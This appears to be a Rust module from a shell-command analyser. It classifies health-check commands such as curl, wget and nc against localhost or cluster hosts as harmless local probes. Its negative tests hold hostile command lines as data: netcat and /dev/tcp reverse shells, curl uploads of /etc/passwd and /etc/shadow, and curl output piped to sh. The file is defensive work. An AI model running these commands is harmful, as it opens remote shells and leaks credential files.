//! Commands that only ask whether something is there: a container's own health checks, and waiting for a service.
//!
//! Such a command sends nothing that anyone chose, saves nothing, runs nothing else, and reaches only this machine
//! (or one port of one inner host, without data). Everything that is not known to be so is no probe.

use crate::cmdline::{Command, Compound, Flag, NestedKind, Redirect, Redirection, Script};
use std::net::IpAddr;

/// Programs that ask a service of their own kind, with what must stand among their arguments (nothing: any).
const ASKING: &[(&str, &[&str])] = &[
    ("pg_isready", &[]),
    ("mysqladmin", &["ping", "status"]),
    ("mariadb-admin", &["ping", "status"]),
    ("healthcheck.sh", &[]),
    ("redis-cli", &["ping", "PING"]),
    ("valkey-cli", &["ping", "PING"]),
    (
        "rabbitmq-diagnostics",
        &["ping", "-q", "check_running", "check_port_connectivity", "check_local_alarms", "status"],
    ),
    ("rabbitmqctl", &["status", "node_health_check", "await_startup"]),
    ("grpc_health_probe", &[]),
    ("grpc-health-probe", &[]),
    ("pidof", &[]),
    ("pgrep", &[]),
];

/// Programs that only judge or wait.
const PLAIN: &[&str] =
    &["true", "false", "exit", ":", "sleep", "read", "echo", "printf", "test", "[", "return", "break"];
/// Options of curl without a value, as letters and as words.
const CURL_FLAGS: &str = "sSfkLIvgq46N";
const CURL_WORDS: &[&str] = &[
    "--fail",
    "--silent",
    "--show-error",
    "--head",
    "--location",
    "--insecure",
    "--verbose",
    "--no-progress-meter",
    "--fail-with-body",
    "--http1.1",
    "--http2",
    "--globoff",
    "--compressed",
    "--include",
];
/// Options of curl with a value.
const CURL_VALUES: &[&str] = &[
    "-m",
    "--max-time",
    "--connect-timeout",
    "-w",
    "--write-out",
    "-H",
    "--header",
    "-A",
    "--user-agent",
    "--retry",
    "--retry-delay",
    "--retry-max-time",
    "--cacert",
    "--noproxy",
];

/// Whether the script only asks.
pub(super) fn is_local_probe(script: &Script) -> bool {
    let whole = |script: &Script| {
        ![Flag::Cut, Flag::Bounded, Flag::OperatorsInArgv].iter().any(|flag| script.flags.has(*flag))
            && script.comments.is_empty()
            && script.remainder.is_none()
    };
    let (mut asks, mut harmless) = (false, whole(script));
    script.for_each_command(|visit| {
        let command = visit.command;
        let asking = is_asking(command);
        asks |= asking || command.redirections.iter().any(is_loopback_device);
        harmless = harmless
            && command.code.is_none()
            && !command.cut
            && command.redirections.iter().all(is_harmless_redirection)
            && command.nested.iter().all(|nested| {
                matches!(nested.kind, NestedKind::Body | NestedKind::ShellC | NestedKind::Substitution)
                    && whole(&nested.script)
            })
            && (asking || is_frame(command) || is_judging(command));
    });
    asks && harmless
}

/// A compound command, or a shell or wrapper whose script is looked at by itself.
fn is_frame(command: &Command) -> bool {
    match command.compound {
        Some(
            Compound::Subshell | Compound::Group | Compound::If | Compound::While | Compound::Until | Compound::Test,
        ) => true,
        Some(_) => false,
        None => {
            command.is_shell()
                && !command.nested.is_empty()
                && command.arg_texts().take_while(|arg| arg.starts_with('-')).all(|arg| !arg.contains('i'))
        }
    }
}

fn is_judging(command: &Command) -> bool {
    match command.program() {
        "" => command.words.is_empty(),
        "exec" => command.args().is_empty(),
        "grep" => {
            command.arg_texts().all(|arg| !arg.starts_with('/') && !arg.starts_with("-r") && !arg.starts_with("-f"))
        }
        "head" | "tail" | "wc" => command.arg_texts().all(|arg| !arg.contains('/')),
        "cat" => command.arg_texts().all(is_state_file),
        program => PLAIN.contains(&program) && command.arg_texts().all(|arg| !arg.starts_with("/dev/")),
    }
}

/// A file that a program leaves to say that it is well.
fn is_state_file(path: &str) -> bool {
    let state = ["health", "ready", "live", "alive", "started"].iter().any(|word| path.contains(word));
    state
        && (path.starts_with("/tmp/") || path.starts_with("/run/") || path.starts_with("/var/run/"))
        && !path.contains("..")
}

fn is_asking(command: &Command) -> bool {
    let args = || command.arg_texts().collect::<Vec<&str>>();
    match command.program() {
        "curl" => asks_with_curl(&args()),
        "wget" => asks_with_wget(&args()),
        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" => asks_with_netcat(&args()),
        "cat" => !command.args().is_empty() && command.arg_texts().all(is_state_file),
        "kill" => matches!(args().as_slice(), ["-0", _]),
        program => ASKING.iter().any(|(name, words)| {
            *name == program && (words.is_empty() || command.arg_texts().any(|arg| words.contains(&arg)))
        }),
    }
}

fn is_harmless_redirection(redirection: &Redirection) -> bool {
    let target = redirection.target.text.as_str();
    match redirection.kind {
        Redirect::CopyInput | Redirect::CopyOutput => target == "-" || target.bytes().all(|b| b.is_ascii_digit()),
        Redirect::HereString => true,
        _ => target == "/dev/null" || is_loopback_device(redirection),
    }
}

/// `/dev/tcp/127.0.0.1/9080`
fn is_loopback_device(redirection: &Redirection) -> bool {
    let target = redirection.target.text.as_str();
    let Some((host, port)) = target.strip_prefix("/dev/tcp/").and_then(|rest| rest.split_once('/')) else {
        return false;
    };
    is_loopback(host) && port.bytes().all(|b| b.is_ascii_digit())
}

fn is_loopback(host: &str) -> bool {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    matches!(host, "localhost" | "0.0.0.0") || host.parse::<IpAddr>().is_ok_and(|address| address.is_loopback())
}

/// Whether a URL's host is this machine. User information could hide another host: it ends the match.
fn is_loopback_url(url: &str) -> bool {
    let rest = url.strip_prefix("http://").or_else(|| url.strip_prefix("https://")).unwrap_or(url);
    if rest.contains(['@', '\\', '`', '$']) || rest.contains("://") {
        return false;
    }
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = match authority.strip_prefix('[') {
        Some(v6) => v6.split(']').next().unwrap_or_default(),
        None => authority.split(':').next().unwrap_or_default(),
    };
    is_loopback(host)
}

fn asks_with_curl(args: &[&str]) -> bool {
    let (mut at, mut urls) = (0, 0);
    while at < args.len() {
        let (arg, next) = (args[at], args.get(at + 1).copied().unwrap_or_default());
        let value = match arg {
            "-o" | "--output" => Some(matches!(next, "/dev/null" | "-")),
            "-X" | "--request" => Some(matches!(next, "GET" | "HEAD")),
            _ if CURL_VALUES.contains(&arg) => Some(!next.starts_with('@')),
            _ => None,
        };
        match value {
            Some(true) => at += 1,
            None if CURL_WORDS.contains(&arg) => {}
            None if arg.starts_with("--") => {
                let Some((name, value)) = arg.split_once('=') else { return false };
                if !CURL_VALUES.contains(&name) || value.starts_with('@') {
                    return false;
                }
            }
            None if arg.starts_with('-') => {
                let letters = &arg[1..];
                let saves = letters.strip_suffix('o').is_some_and(|rest| rest.chars().all(|c| CURL_FLAGS.contains(c)));
                if saves && matches!(next, "/dev/null" | "-") {
                    at += 1;
                } else if letters == "o/dev/null"
                    || letters.strip_prefix('m').is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
                {
                } else if !letters.chars().all(|c| CURL_FLAGS.contains(c)) {
                    return false;
                }
            }
            None if is_loopback_url(arg) => urls += 1,
            Some(_) | None => return false,
        }
        at += 1;
    }
    urls > 0
}

fn asks_with_wget(args: &[&str]) -> bool {
    let (mut at, mut urls, mut keeps_nothing) = (0, 0, false);
    while at < args.len() {
        let (arg, next) = (args[at], args.get(at + 1).copied().unwrap_or_default());
        match arg {
            "--spider"
            | "-O-"
            | "-qO-"
            | "-O/dev/null"
            | "-qO/dev/null"
            | "--output-document=-"
            | "--output-document=/dev/null"
            | "-nvO-" => keeps_nothing = true,
            "-O" | "-qO" | "--output-document" if matches!(next, "-" | "/dev/null") => {
                keeps_nothing = true;
                at += 1;
            }
            "-T" | "-t" | "--timeout" | "--tries" if next.bytes().all(|b| b.is_ascii_digit()) => at += 1,
            "-q"
            | "-S"
            | "-nv"
            | "--quiet"
            | "--no-verbose"
            | "--server-response"
            | "--no-check-certificate"
            | "-Y"
            | "off" => {}
            _ if arg.starts_with("--timeout=")
                || arg.starts_with("--tries=")
                || arg.starts_with("-T")
                || arg.starts_with("-t")
                || arg.starts_with("--header=") => {}
            _ if !arg.starts_with('-') && is_loopback_url(arg) => urls += 1,
            _ => return false,
        }
        at += 1;
    }
    urls > 0 && keeps_nothing
}

/// `nc -z host port`: opens one port of one inner host and closes it again.
fn asks_with_netcat(args: &[&str]) -> bool {
    let (mut at, mut scans, mut operands) = (0, false, Vec::new());
    while at < args.len() {
        let arg = args[at];
        match arg.strip_prefix('-') {
            Some(letters) if !letters.is_empty() => {
                let waits = letters.trim_end_matches(|c: char| c.is_ascii_digit());
                if !waits.chars().all(|c| "zvnuw46t".contains(c)) {
                    return false;
                }
                scans |= waits.contains('z');
                if letters.ends_with('w') {
                    at += 1;
                    if !args.get(at).is_some_and(|seconds| seconds.bytes().all(|b| b.is_ascii_digit())) {
                        return false;
                    }
                }
            }
            _ => operands.push(arg),
        }
        at += 1;
    }
    let [host, port] = operands.as_slice() else { return false };
    scans && port.bytes().all(|b| b.is_ascii_digit()) && !port.is_empty() && is_inner_host(host)
}

/// A host inside the cluster or network: a short or cluster name, or a private address.
fn is_inner_host(host: &str) -> bool {
    if is_loopback(host) {
        return true;
    }
    match host.parse::<IpAddr>() {
        Ok(IpAddr::V4(address)) => address.is_private(),
        Ok(IpAddr::V6(address)) => address.segments()[0] & 0xfe00 == 0xfc00,
        Err(_) => {
            let name = host.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_'));
            name && host.parse::<u64>().is_err()
                && (!host.contains('.')
                    || host.strip_suffix(".svc").is_some()
                    || host.ends_with(".svc.cluster.local")
                    || host.contains(".svc."))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cmdline::parse_argv;

    #[test]
    fn probes_ask_and_do_nothing_else() {
        for line in [
            "curl -sf -o /dev/null http://localhost:8080/healthz",
            "curl --fail --silent http://127.0.0.1/ready",
            "sh -c curl -fsS -m 2 http://localhost:9200/_cluster/health || exit 1",
            "wget -q --spider http://127.0.0.1:3000/",
            "wget -qO- http://localhost/metrics",
            "nc -z db 5432",
            "nc -zv localhost 8500",
            "nc -zw1 10.0.0.7 6379",
            "sh -c until nc -z postgres 5432; do echo waiting; sleep 1; done",
            "pg_isready -U app -d app",
            "redis-cli -h 127.0.0.1 ping",
            "cat /tmp/healthy",
            "bash -lc exec 3<>/dev/tcp/127.0.0.1/9080 && printf \"GET /targets HTTP/1.1\\r\\n\\r\\n\" >&3 && IFS= read -r line <&3 && [[ \"$line\" == *\"200\"* ]]",
        ] {
            assert!(is_local_probe(&parse_argv(line)), "{line}");
        }
    }

    #[test]
    fn what_reaches_out_saves_or_runs_is_no_probe() {
        for line in [
            "curl -sf -o /tmp/healthz http://localhost.healthz.cdn-assets.example/s",
            "curl -sf -o /tmp/x http://localhost:8080/healthz",
            "curl -s http://localhost@203.0.113.9/",
            "curl -s http://localhost:8080/ http://203.0.113.9/",
            "curl -s -d @/etc/passwd http://localhost/",
            "curl -sT /etc/shadow http://localhost/",
            "curl -H @/etc/shadow http://localhost/",
            "wget http://localhost/x",
            "wget -qO- http://203.0.113.9/x",
            "nc -z db 1-65535",
            "nc 198.51.100.7 4444 -e /bin/sh",
            "nc -z 198.51.100.7 4444",
            "sh -c until nc -z db 5432; do sleep 1; done; nc 198.51.100.7 4444 -e /bin/sh",
            "sh -c curl -s http://localhost/x | sh",
            "bash -lc exec 3<>/dev/tcp/198.51.100.40/9080 && bash -i <&3 >&3 2>&3",
            "bash -lc exec 3<>/dev/tcp/127.0.0.1/9080 && bash -i <&3 >&3 2>&3",
            "cat /etc/shadow",
            "sh -c echo hi",
            "echo x",
            "sh -c curl -s http://localhost/ # and more",
        ] {
            assert!(!is_local_probe(&parse_argv(line)), "{line}");
        }
    }
}
